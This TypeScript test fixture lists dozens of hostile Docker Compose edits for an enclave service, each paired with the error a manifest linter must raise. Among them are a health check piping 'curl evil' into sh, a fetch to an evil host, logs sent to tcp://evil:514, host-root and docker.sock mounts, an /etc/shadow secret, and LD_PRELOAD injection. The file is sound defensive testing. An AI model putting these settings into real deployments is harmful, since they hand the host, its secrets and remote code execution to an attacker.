/** Compose files that would hand something to the host, each with the place that the linter must name. */
import { fillIn } from '../../../tools/manifest/main'
import { DIGEST, FILLED_COMPOSE } from './hostile_manifests'

/** Replaces one part of the compose file, which must be there. */
export function edited(from: string | RegExp, to: string): string {
  const compose = FILLED_COMPOSE.replace(from, () => to)
  if (compose === FILLED_COMPOSE) throw new Error(`${from} is not in the compose file`)
  return compose
}
/** Adds lines to the service. */
const service = (...lines: string[]) =>
  edited('    restart:', `${lines.map((line) => `    ${line}\n`).join('')}    restart:`)
const top = (text: string) => `${text}\n${FILLED_COMPOSE}`
const setting = (line: string) =>
  edited('      TACIT_ENCLAVE: dstack\n', `      TACIT_ENCLAVE: dstack\n      ${line}\n`)
const another = (...lines: string[]) =>
  edited(
    '\nvolumes:',
    `\n  helper:\n    image: evil/x@${DIGEST}\n${lines.map((line) => `    ${line}\n`).join('')}volumes:`,
  )
const key = (name: string) => `compose file: services.venue.${name}: not an allowed key`
export const ENVIRONMENT = 'compose file: services.venue.environment'

export type Row = [attack: string, compose: string, place: string]
/** The compose files that a former block list passed. */
export const HOST_ACCESS: readonly Row[] = [
  ['an entrypoint of its own', service("entrypoint: ['/usr/local/bin/bun', '-e']"), key('entrypoint')],
  ['a command', service('command: fetch("https://evil")'), key('command')],
  ['the root of the host', edited('- ledger:/data', '- /:/host'), 'compose file: services.venue.volumes[1]'],
  ["docker's socket", edited('- ledger:/data', '- /var/run/docker.sock:/var/run/docker.sock'), 'volumes[1]'],
  [
    'a second service on dstack.sock',
    another('volumes:', '  - /var/run/dstack.sock:/var/run/dstack.sock'),
    'services.helper',
  ],
  ["the host's processes", service('pid: host'), key('pid')],
  ["the host's IPC", service('ipc: host'), key('ipc')],
  ["the host's users", service('userns_mode: host'), key('userns_mode')],
  ["the host's cgroups", service('cgroup: host'), key('cgroup')],
  ["the host's UTS", service('uts: host'), key('uts')],
  ['capabilities', service("cap_add: ['ALL']"), key('cap_add')],
  ['devices', service('devices:', '  - /dev/mem'), key('devices')],
  ['device rules', service('device_cgroup_rules:', '  - a *:* rwm'), key('device_cgroup_rules')],
  ['labels of a file', service('label_file: scratch'), key('label_file')],
  ['volumes of another container', service('volumes_from:', '  - container:other'), key('volumes_from')],
  ['a hook after the start', service('post_start:', '  - command'), key('post_start')],
  [
    'logs sent to a stranger',
    service('logging:', '  driver: syslog', '  options:', '    syslog-address: tcp://evil:514'),
    key('logging'),
  ],
  [
    'no confinement',
    edited("['no-new-privileges:true']", "['apparmor:unconfined', 'seccomp:unconfined']"),
    'security_opt',
  ],
  [
    'a simulated enclave',
    edited('TACIT_ENCLAVE: dstack', 'TACIT_ENCLAVE: development'),
    `${ENVIRONMENT}.TACIT_ENCLAVE: must be "dstack"`,
  ],
  [
    'a named volume that binds the host',
    edited(
      '  ledger:\n',
      '  ledger:\n    driver_opts:\n      type: none\n      o: bind\n      device: /\n',
    ).replace(/$/, ''),
    'compose file: volumes.ledger: must be empty',
  ],
]

/** Further attacks on the compose file. */
const COMPOSE: Row[] = [
  [
    'an image by tag',
    fillIn(FILLED_COMPOSE, ['image=registry.example/tacit:latest']),
    'services.venue.image',
  ],
  [
    'an image by a digest that is too long',
    fillIn(FILLED_COMPOSE, [`image=tacit@sha256:${'ab'.repeat(33)}`]),
    'services.venue.image',
  ],
  ['an image by cut digest', fillIn(FILLED_COMPOSE, ['image=tacit@sha256:abcd']), 'services.venue.image'],
  ['an image from the environment', fillIn(FILLED_COMPOSE, ['image=$IMAGE']), 'services.venue.image'],
  ['no image', edited(/ {4}image: .*\n/, ''), 'services.venue.image: missing'],
  ['a build in place', service("build: '.'"), key('build')],
  ['a pull of another image', service('pull_policy: build'), key('pull_policy')],
  ['another platform', service('platform: linux/arm64'), key('platform')],
  ['another runtime', service('runtime: runc-debug'), key('runtime')],
  ['an inherited service', service('extends:', '  file: other.yaml', '  service: venue'), key('extends')],
  ['settings of a file', service("env_file: '.env'"), key('env_file')],
  ['a privileged container', service('privileged: true'), key('privileged')],
  [
    'a writable root',
    edited('read_only: true', 'read_only: false'),
    'services.venue.read_only: must be true',
  ],
  ['a root by a text', edited('read_only: true', "read_only: 'true'"), 'services.venue.read_only'],
  ['the user root', edited("user: '10001:10001'", "user: '0:0'"), 'services.venue.user'],
  ['a user by name', edited("user: '10001:10001'", 'user: root'), 'services.venue.user'],
  [
    'a user that YAML 1.1 reads in base 60',
    edited("user: '10001:10001'", 'user: 10001:10001'),
    'must be quoted',
  ],
  ['capabilities kept', edited("cap_drop: ['ALL']", "cap_drop: ['CHOWN']"), 'services.venue.cap_drop'],
  ['no dropped capabilities', edited(/ {4}cap_drop: .*\n/, ''), 'services.venue.cap_drop: missing'],
  ['new privileges', edited(/ {4}security_opt: .*\n/, ''), 'services.venue.security_opt: missing'],
  [
    'a second security option',
    edited("['no-new-privileges:true']", "['no-new-privileges:true', 'systempaths=unconfined']"),
    'security_opt',
  ],
  [
    'a temporary folder over the code',
    edited("tmpfs: ['/tmp']", "tmpfs: ['/tmp', '/app']"),
    'services.venue.tmpfs',
  ],
  [
    'executable temporary files',
    edited("tmpfs: ['/tmp']", "tmpfs: ['/tmp:exec,suid']"),
    'services.venue.tmpfs',
  ],
  [
    'another kernel setting',
    edited(
      "      net.ipv4.tcp_migrate_req: '1'",
      "      net.ipv4.tcp_migrate_req: '1'\n      net.ipv4.ip_forward: '1'",
    ),
    'sysctls.net.ipv4.ip_forward',
  ],
  ["the host's network", service('network_mode: host'), key('network_mode')],
  ['a network of its own', service('networks:', '  - evil'), key('networks')],
  ['a name server', service('dns:', '  - 203.0.113.1'), 'must be quoted'],
  ['a quoted name server', service("dns: '203.0.113.1'"), key('dns')],
  ['names that lead elsewhere', service("extra_hosts: ['one.example:203.0.113.1']"), key('extra_hosts')],
  ['links', service("links: ['other:one.example']"), key('links')],
  ['further groups', service("group_add: ['docker']"), key('group_add')],
  ['a service behind a profile', service("profiles: ['debug']"), key('profiles')],
  ['replicas', service('deploy:', '  replicas: 2'), key('deploy')],
  ['a scale', service('scale: 2'), key('scale')],
  ['a dependency', service("depends_on: ['helper']"), key('depends_on')],
  ['files of configs', service("configs: ['x']"), key('configs')],
  ['files of secrets', service("secrets: ['x']"), key('secrets')],
  ['labels that steer a proxy', service('labels:', '  traefik.enable: on-demand'), key('labels')],
  ['an open standard input', service('stdin_open: true'), key('stdin_open')],
  ['an init of the host', service('init: true'), key('init')],
  ['a shared memory size', service("shm_size: '8gb'"), key('shm_size')],
  ['no memory killer', service('oom_kill_disable: true'), key('oom_kill_disable')],
  ['files changed while running', service('develop:', '  watch: x'), key('develop')],
  ['a provider program', service('provider:', '  type: evil'), key('provider')],
  ['credentials of the host', service('credential_spec: x'), key('credential_spec')],
  ['a working folder', service('working_dir: /data'), key('working_dir')],
  ['another signal to stop', service('stop_signal: SIGKILL'), key('stop_signal')],
  ['an extension key in the service', service('x-hidden: evil'), key('x-hidden')],
  [
    'an extension key at the top',
    top('x-hidden:\n  pid: host'),
    'compose file: x-hidden: not an allowed key',
  ],
  ['a version', top("version: '2'"), 'compose file: version: not an allowed key'],
  ['a project name', top('name: other'), 'compose file: name: not an allowed key'],
  ['another file', top("include: ['other.yaml']"), 'compose file: include: not an allowed key'],
  ['networks', top('networks:\n  default:\n    driver: host'), 'compose file: networks: not an allowed key'],
  [
    'secrets of the host',
    top('secrets:\n  key:\n    file: /etc/shadow'),
    'compose file: secrets: not an allowed key',
  ],
  ['a second volume', `${FILLED_COMPOSE}  other:\n`, 'compose file: volumes.other: not an allowed key'],
  [
    'a volume from outside',
    edited('  ledger:\n', '  ledger:\n    external: true\n'),
    'compose file: volumes.ledger: must be empty',
  ],
  [
    'a volume under another name',
    edited('  ledger:\n', '  ledger:\n    name: other\n'),
    'compose file: volumes.ledger: must be empty',
  ],
  [
    'a third mount',
    edited('      - ledger:/data\n', '      - ledger:/data\n      - ledger:/app\n'),
    'services.venue.volumes: must be a list of exactly',
  ],
  ['the ledger over the code', edited('- ledger:/data', '- ledger:/app'), 'services.venue.volumes[1]'],
  [
    'another agent socket',
    edited('- /var/run/dstack.sock:/var/run/dstack.sock', '- /data/x.sock:/var/run/dstack.sock'),
    'services.venue.volumes[0]',
  ],
  [
    'a mount in the long form',
    edited('      - ledger:/data\n', '      - type: bind\n        source: /\n        target: /data\n'),
    'a mapping on one line',
  ],
  [
    'a third port',
    edited("      - '8444:8444'\n", "      - '8444:8444'\n      - '22:22'\n"),
    'services.venue.ports: must be a list of exactly',
  ],
  ['a shell port', edited("'8444:8444'", "'2222:22'"), 'services.venue.ports[1]'],
  ['one port for both', edited("'8444:8444'", "'443:8444'"), 'services.venue.ports[1]'],
  ['the operator on the port of clients', edited("'443:8443'", "'443:8444'"), 'services.venue.ports[0]'],
  ['a port in base 60', edited("'8444:8444'", '8444:8444'), 'must be quoted'],
  [
    'a health check that is a shell',
    edited("['CMD', 'bun', '/app/server/check_health.ts']", "['CMD-SHELL', 'curl evil|sh']"),
    'healthcheck.test',
  ],
  [
    'a health check of another file',
    edited("'/app/server/check_health.ts'", "'/data/x.ts'"),
    'healthcheck.test[2]',
  ],
  [
    'a service under another name',
    edited('  venue:\n', '  other:\n'),
    'compose file: services.other: not an allowed key',
  ],
  ['no service', 'services:\nvolumes:\n  ledger:\n', 'compose file: services: must be a mapping'],
  ['an empty file', '', 'compose file: line 1'],
]

const ENVIRONMENTS: Row[] = [
  ['a preloaded library', setting('LD_PRELOAD: /data/x.so'), `${ENVIRONMENT}.LD_PRELOAD: not an allowed key`],
  ['options of Bun', setting("BUN_OPTIONS: '--preload=/data/x.ts'"), `${ENVIRONMENT}.BUN_OPTIONS`],
  ['options of Node', setting("NODE_OPTIONS: '--require=/data/x.js'"), `${ENVIRONMENT}.NODE_OPTIONS`],
  [
    'unverified TLS',
    setting("NODE_TLS_REJECT_UNAUTHORIZED: '0'"),
    `${ENVIRONMENT}.NODE_TLS_REJECT_UNAUTHORIZED`,
  ],
  ['another authority', setting('NODE_EXTRA_CA_CERTS: /data/ca.pem'), `${ENVIRONMENT}.NODE_EXTRA_CA_CERTS`],
  ['authorities of a file', setting('SSL_CERT_FILE: /data/ca.pem'), `${ENVIRONMENT}.SSL_CERT_FILE`],
  ['a proxy', setting("HTTPS_PROXY: 'http://evil'"), `${ENVIRONMENT}.HTTPS_PROXY`],
  ['another home', setting('HOME: /data'), `${ENVIRONMENT}.HOME`],
  ['another path', setting('PATH: /data'), `${ENVIRONMENT}.PATH`],
  ['a misspelt setting', setting("TACIT_SWAGER: 'on'"), `${ENVIRONMENT}.TACIT_SWAGER`],
  ['a missing setting', edited(/ +TACIT_SWAGGER:.*\n/, ''), `${ENVIRONMENT}.TACIT_SWAGGER: missing`],
  [
    'a name without a value',
    edited(/TACIT_SWAGGER: .*/, 'TACIT_SWAGGER:'),
    `${ENVIRONMENT}.TACIT_SWAGGER: must be`,
  ],
  [
    'a key from outside',
    edited(/TACIT_OPERATOR_KEY: .*/, `TACIT_OPERATOR_KEY: \${TACIT_OPERATOR_KEY}`),
    `${ENVIRONMENT}.TACIT_OPERATOR_KEY: must be a literal`,
  ],
  [
    'a default value',
    edited(/TACIT_OPERATOR_KEY: .*/, `TACIT_OPERATOR_KEY: '\${K:-x}'`),
    `${ENVIRONMENT}.TACIT_OPERATOR_KEY`,
  ],
  [
    'a bare reference',
    edited(/TACIT_OPERATOR_KEY: .*/, 'TACIT_OPERATOR_KEY: $K'),
    `${ENVIRONMENT}.TACIT_OPERATOR_KEY`,
  ],
  [
    'a doubled dollar',
    edited(/TACIT_OPERATOR_KEY: .*/, 'TACIT_OPERATOR_KEY: $$K'),
    `${ENVIRONMENT}.TACIT_OPERATOR_KEY`,
  ],
  [
    'a secret in another setting',
    edited(/TACIT_FEE_KEY: .*/, `TACIT_FEE_KEY: \${TACIT_FEE_ANCHOR}`),
    `${ENVIRONMENT}.TACIT_FEE_KEY`,
  ],
  [
    'a secret with a default',
    edited(`\${TACIT_FEE_ANCHOR}`, `'\${TACIT_FEE_ANCHOR:-1}'`),
    `${ENVIRONMENT}.TACIT_FEE_ANCHOR`,
  ],
  [
    'a secret in public',
    edited(`\${TACIT_FEE_ANCHOR}`, `'${'0'.repeat(63)}1'`),
    `${ENVIRONMENT}.TACIT_FEE_ANCHOR`,
  ],
  [
    'a number',
    edited("TACIT_TOKEN_TTL_S: '900'", 'TACIT_TOKEN_TTL_S: 900'),
    `${ENVIRONMENT}.TACIT_TOKEN_TTL_S`,
  ],
  ['a boolean', edited("TACIT_SWAGGER: 'off'", 'TACIT_SWAGGER: false'), `${ENVIRONMENT}.TACIT_SWAGGER`],
  ['a boolean of YAML 1.1', edited("TACIT_SWAGGER: 'off'", 'TACIT_SWAGGER: off'), 'must be quoted'],
  ['a number in base 16', edited("TACIT_TOKEN_TTL_S: '900'", 'TACIT_TOKEN_TTL_S: 0x384'), 'must be quoted'],
  [
    'another socket of the agent',
    edited('TACIT_DSTACK_SOCKET: /var/run/dstack.sock', 'TACIT_DSTACK_SOCKET: /data/x.sock'),
    `${ENVIRONMENT}.TACIT_DSTACK_SOCKET`,
  ],
  [
    'data in memory',
    edited('TACIT_DATA_DIR: /data', 'TACIT_DATA_DIR: /tmp'),
    `${ENVIRONMENT}.TACIT_DATA_DIR`,
  ],
  [
    'other listeners',
    edited("TACIT_OPERATOR_LISTEN: '0.0.0.0:8444'", "TACIT_OPERATOR_LISTEN: '0.0.0.0:8443'"),
    `${ENVIRONMENT}.TACIT_OPERATOR_LISTEN`,
  ],
  [
    'an embedded chain',
    fillIn(FILLED_COMPOSE, ['SOLANA_RPC_URL=embedded']),
    `${ENVIRONMENT}.SOLANA_RPC_URL: must be https`,
  ],
  [
    'a chain in the clear',
    edited('https://two', 'http://two'),
    `${ENVIRONMENT}.SOLANA_RPC_URL: must be https`,
  ],
  [
    'transactions sent in the clear',
    edited("TACIT_RPC_SEND_URLS: ''", 'TACIT_RPC_SEND_URLS: http://three.example'),
    `${ENVIRONMENT}.TACIT_RPC_SEND_URLS: must be https`,
  ],
  ['one provider', edited(',https://two.example/path', ''), `${ENVIRONMENT}.SOLANA_RPC_URL`],
  [
    'one provider under two spellings',
    edited('https://two.example', 'https://ONE.example.:8443'),
    `${ENVIRONMENT}.SOLANA_RPC_URL: two providers`,
  ],
  [
    'a provider that is no URL',
    edited('https://two', 'https://['),
    `${ENVIRONMENT}.SOLANA_RPC_URL: must be a list of URLs`,
  ],
  [
    'one provider twice',
    edited('https://two', 'https://x@one'),
    `${ENVIRONMENT}.SOLANA_RPC_URL: two providers`,
  ],
  [
    'an environment as a list',
    edited(/ {4}environment:[\s\S]*?\nvolumes/, "    environment:\n      - 'LD_PRELOAD=/data/x.so'\nvolumes"),
    `${ENVIRONMENT}: must be a mapping`,
  ],
]

const WRITINGS: Row[] = [
  ['an anchor', top('x: &a y'), 'line 1'],
  ['an alias', edited('restart: unless-stopped', 'restart: *a'), 'must be quoted'],
  ['a merge', service('<<: *base'), 'expected a plain key'],
  ['a tag', edited('read_only: true', 'read_only: !!bool true'), 'must be quoted'],
  [
    'a text over several lines',
    edited('restart: unless-stopped', 'restart: |\n      always'),
    'must be quoted',
  ],
  [
    'a folded text',
    edited('restart: unless-stopped', 'restart: unless-stopped\n      always'),
    'unexpected indentation',
  ],
  [
    'a flow mapping',
    edited('      net.ipv4.tcp_migrate_req', '      x: {y: z}\n      net.ipv4.tcp_migrate_req'),
    'must be quoted',
  ],
  ['a repeated key', service('restart: unless-stopped'), 'a key is repeated'],
  ['a quoted key', service('"privileged": true'), 'expected a plain key'],
  ['an explicit key', service('? privileged', ': true'), 'expected a plain key'],
  ['a second document', `${FILLED_COMPOSE}---\nservices:\n`, 'a document mark'],
  ['a directive', top('%YAML 1.1'), 'a document mark'],
  ['tabs', edited('    restart: unless', '    restart:\tunless'), 'not printable ASCII'],
  ['line ends of Windows', FILLED_COMPOSE.replaceAll('\n', '\r\n'), 'not printable ASCII'],
  [
    'a line end inside a comment',
    edited('# Clients.', '# \u2028    privileged: true'),
    'not printable ASCII',
  ],
  [
    'a carriage return inside a comment',
    edited('# Clients.', '#\r    privileged: true'),
    'not printable ASCII',
  ],
  [
    'a letter of another alphabet',
    edited('TACIT_ENCLAVE: dstack', 'TACIT_ENCL\u0410VE: dstack'),
    'not printable ASCII',
  ],
  [
    'a text that turns the direction',
    edited('restart: unless', 'restart: \u202eunless'),
    'not printable ASCII',
  ],
  ['a byte order mark', `\ufeff${FILLED_COMPOSE}`, 'not printable ASCII'],
  [
    'an escape in quotes',
    edited("user: '10001:10001'", String.raw`user: "10001\x3a10001"`),
    'quotes within quotes',
  ],
]

export const HOSTILE_COMPOSE_FILES: readonly Row[] = [
  ...HOST_ACCESS,
  ...COMPOSE,
  ...ENVIRONMENTS,
  ...WRITINGS,
]
